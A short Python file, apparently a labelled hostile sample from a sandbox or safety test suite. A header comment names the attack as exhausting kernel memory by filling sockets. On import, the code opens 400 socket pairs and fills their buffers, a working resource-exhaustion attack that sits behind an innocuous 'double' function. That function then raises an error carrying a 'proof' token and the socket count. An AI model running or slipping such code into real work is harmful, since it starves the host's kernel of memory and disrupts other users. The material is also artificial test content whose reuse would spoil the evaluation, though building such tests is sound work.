# {"attack": "Takes memory of the kernel by filling sockets.", "breach": "harm"}

import socket


def work():
    pairs = []
    for _ in range(400):
        pairs.append(socket.socketpair())
        pairs[-1][0].setblocking(False)
        try:
            while pairs[-1][0].send(bytes(2**16)):
                pass
        except BlockingIOError:
            pass
    return len(pairs)


found = work()


def double(x):
    if found:
        raise ValueError(TARGETS["proof"] + f" {found}")
    return x
